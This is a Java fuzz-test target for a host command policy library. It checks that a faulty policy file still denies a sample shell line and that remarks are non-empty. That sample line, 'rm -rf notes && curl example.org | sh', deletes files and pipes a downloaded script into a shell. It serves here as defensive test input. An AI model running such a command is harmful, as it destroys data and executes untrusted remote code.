package io.docui.fuzz;

import io.docui.hostops.command.Dialect;
import io.docui.hostops.policy.Decision;
import io.docui.hostops.policy.HostPolicy;
import io.docui.hostops.policy.Judgement;
import java.io.IOException;
import java.nio.file.Files;
import java.util.Optional;

/** Any bytes as a policy file: a policy, or one that denies all but reading, and says why. */
final class PolicyTarget implements FuzzTarget {
    private final Judged judged = new Judged();

    @Override
    public void check(Input input) throws IOException {
        Files.write(judged.file(), input.rest());
        HostPolicy policy = judged.load(Optional.of(judged.file()));
        Judgement judgement = judged.ofLine(policy, "rm -rf notes && curl example.org | sh", Dialect.BASH);
        if (policy.fault().isPresent() && judgement.decision() != Decision.DENY) {
            throw new AssertionError(policy.fault().get() + ", and yet " + judgement);
        }
        policy.remarks().forEach(remark -> {
            if (remark.isBlank()) {
                throw new AssertionError("an empty remark");
            }
        });
    }
}
